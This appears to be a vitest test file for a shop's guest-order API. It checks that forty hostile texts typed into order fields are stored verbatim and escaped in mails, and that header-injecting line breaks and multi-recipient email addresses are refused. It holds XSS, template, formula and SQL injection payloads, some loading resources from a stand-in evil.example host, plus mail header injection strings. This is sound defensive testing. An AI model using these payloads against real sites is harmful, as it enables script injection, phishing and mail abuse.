/**
 * Forty texts that try to become markup, headers or numbers, in every text field of a guest's order: answers return them as typed,
 * mails and pages show them as text.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Order } from '#contract/order.ts';
import { withoutUnseenSigns } from '#domain/contact/unseen-signs.ts';
import { escaped } from '#server/mail/html.ts';
import {
  get,
  homeAddress,
  itemOf,
  logIn,
  mondayMorning,
  newGuest,
  order,
  orderByLink,
  problemsOf,
  productOf,
  send,
  visitor,
} from '../buyer.ts';
import type { Item, Person } from '../buyer.ts';
import { startShop } from '../shop-app.ts';
import type { ShopApp } from '../shop-app.ts';

const payloads = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=9>x',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '` onclick=alert(1) `',
  '<iframe src=/etc/passwd>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>',
  '<style>@import "//evil.example/x.css"</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<form action=//evil.example><input name=password>',
  '<body onload=alert(1)>',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  'x <%= 7*7 %>',
  '\\u003cscript\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  'a\u2028alert(1)\u2029b',
  '\u202e<gpj.exe',
  '＜script＞alert(1)＜/script＞',
  'cid:position-1 "cid:x"',
  '=HYPERLINK("//evil.example")',
  '@SUM(1+1)*cmd|calc',
  "Robert'); drop table sales_order; --",
];

let shop: ShopApp;
let staff: Person;
let item: Item;

beforeAll(async () => {
  shop = await startShop({ now: () => mondayMorning });
  staff = await logIn(shop.app, 'leitung@kistenwerk.example');
  item = itemOf(await productOf(shop.app, 'EP_0001'));
});
afterAll(async () => shop.close());

interface Mail {
  id: number;
  to: string;
  subject: string;
  html: string;
  text: string;
}

async function mailsOf(orderId: number): Promise<Mail[]> {
  const { rows } = await shop.database.pool.query<{ id: number }>('select id from mail where order_id = $1 order by id', [orderId]);
  return Promise.all(rows.map(async ({ id }) => (await get<Mail>(staff, `/dev/mails/${id}`)).body));
}

/** Everything in an order that a guest may type. The fields are of maximum length, so that no text is cut. */
async function orderOfHostile(text: string): Promise<{ id: number; uuid: string }> {
  const guest = await newGuest(shop.app, {
    contactPerson: { firstName: text.slice(0, 70), lastName: text.slice(0, 70) },
    companyInfo: { name: text, code: text.slice(0, 40) },
    address: { name: text, addition: text, street: text, additionalAddress: text, city: text.slice(0, 60) },
  });
  const { status, body } = await order(guest, [{ ...item, externalCustomerRef: text }], {
    comment: `${text}\n${text}`,
    externalCustomerRef: text,
    orderPerson: text,
  });
  if (status !== 200) throw new Error(JSON.stringify(body));
  return body;
}

const expectedTags =
  /^(?:!doctype|html|head|meta|title|style|body|table|tbody|thead|tr|td|th|p|div|span|strong|b|h1|h2|h3|a|img|br|hr|ul|li|center|em)$/i;

/** Names of the elements and attributes that a mail program would see. */
function tagsOf(html: string): { tags: Set<string>; attributes: Set<string> } {
  const found = [...html.matchAll(/<\/?([a-z!][^\s/>]*)((?:"[^"]*"|'[^']*'|[^>"'])*)>/gi)];
  return {
    tags: new Set(found.map(([, name]) => (name ?? '').toLowerCase())),
    attributes: new Set(found.flatMap(([, , rest]) => [...(rest ?? '').matchAll(/([\w-]+)\s*=\s*"[^"]*"/g)].map(([, name]) => name ?? ''))),
  };
}

describe('hostile texts of an order', () => {
  let plain: { tags: Set<string>; attributes: Set<string> };
  beforeAll(async () => {
    const { id } = await orderOfHostile('Muster');
    plain = tagsOf((await mailsOf(id))[0]?.html ?? '');
    expect([...plain.tags].every((tag) => expectedTags.test(tag))).toBe(true);
    expect([...plain.attributes].filter((name) => name.startsWith('on'))).toEqual([]);
  });

  it.each(payloads)('%j stays a text', async (text) => {
    const { id, uuid } = await orderOfHostile(text);
    const stored: Order = await orderByLink(shop.app, uuid);
    const line = withoutUnseenSigns(text);
    expect(stored).toMatchObject({
      comment: `${text}\n${text}`,
      externalCustomerNo: line,
      orderPerson: line,
      deliveryAddress: { name: line, addition: line, street: line, additionalAddress: line },
      customer: { name: line },
    });
    expect(stored.positions[0]?.externalCustomerNo).toBe(text);

    const mails = await mailsOf(id);
    expect(mails.map(({ to }) => to)).toEqual(['anna@muster.example', expect.stringMatching(/^[^@\s]+@[^@\s]+$/)]);
    for (const { html, subject, text: body } of mails) {
      expect(tagsOf(html)).toEqual(plain);
      expect(html).toContain(escaped(text));
      expect(body).toContain(text);
      // A line break in a subject would start another header.
      expect(subject).not.toMatch(/[\r\n]/);
    }
  });
});

describe('signs that nobody sees', () => {
  it('fall away around what was pasted', async () => {
    const guest = await newGuest(shop.app, { contactPerson: { lastName: '\u2066Muster\u2069', phone: '\u202A+41 79 123 45 67\u202C' } });
    const { rows } = await shop.database.pool.query(`select last_name, phone from contact_person where customer_id = $1`, [
      guest.customerId,
    ]);
    expect(rows).toEqual([{ last_name: 'Muster', phone: '+41 79 123 45 67' }]);
  });

  it.each(['\u200B\u200B', '\u3164', '\u{E0041}'])('%j alone is no name, street or city', async (text) => {
    const person = { firstName: 'Anna', lastName: text, email: 'a@muster.example' };
    const named = await send(visitor(shop.app), 'POST', '/customers', { guest: true, contactPerson: person });
    expect(named.status).toBeGreaterThanOrEqual(400);
    expect(named.status).toBeLessThan(500);
    const guest = await newGuest(shop.app);
    for (const field of ['name', 'street', 'city']) {
      const answer = await send(guest, 'POST', `/customer/${guest.customerId}/address`, { ...homeAddress, [field]: text });
      expect(problemsOf(answer)).toEqual([`validation.required body.${field}`]);
    }
  });
});

describe('line breaks', () => {
  const breaks = ['a\r\nBcc: evil@example.com', 'a\nSubject: x', 'a\rb', 'a\u0000b', 'a\u0008b'];
  const guestBody = (over: object): object => ({
    guest: true,
    contactPerson: { firstName: 'Anna', lastName: 'Muster', email: 'a@muster.example', ...over },
  });

  it.each(breaks)('%j is refused in everything of one line', async (text) => {
    for (const over of [{ firstName: text }, { lastName: text }, { email: `${text}@muster.example` }, { phone: text }])
      expect((await send(visitor(shop.app), 'POST', '/customers', guestBody(over))).status).toBe(400);
    const guest = await newGuest(shop.app);
    for (const field of ['name', 'addition', 'street', 'additionalAddress', 'city', 'zipCode'])
      expect((await send(guest, 'POST', `/customer/${guest.customerId}/address`, { ...homeAddress, [field]: text })).status).toBe(400);
    for (const over of [{ orderPerson: text }, { externalCustomerRef: text }, { invoiceEmail: `a@muster.example${text}` }])
      expect((await order(guest, [item], over)).status).toBe(400);
  });

  const notOneAddress = [
    'a@muster.example, evil@example.com',
    'a@muster.example;evil@example.com',
    '<a@muster.example>',
    'Anna <a@muster.example>',
    '"a b"@muster.example',
    'a@muster.example\u2028evil@example.com',
    'a@b@muster.example',
    'a@localhost',
    'a@127.0.0.1',
    '@muster.example',
    'a@muster..example',
    `${'a'.repeat(65)}@muster.example`,
  ];
  it.each(notOneAddress)('%j is no address of a guest and none for invoices', async (email) => {
    const answer = await send(visitor(shop.app), 'POST', '/customers', guestBody({ email }));
    expect([400, 422]).toContain(answer.status);
    const guest = await newGuest(shop.app);
    expect([400, 422]).toContain((await order(guest, [item], { invoiceEmail: email })).status);
  });
});
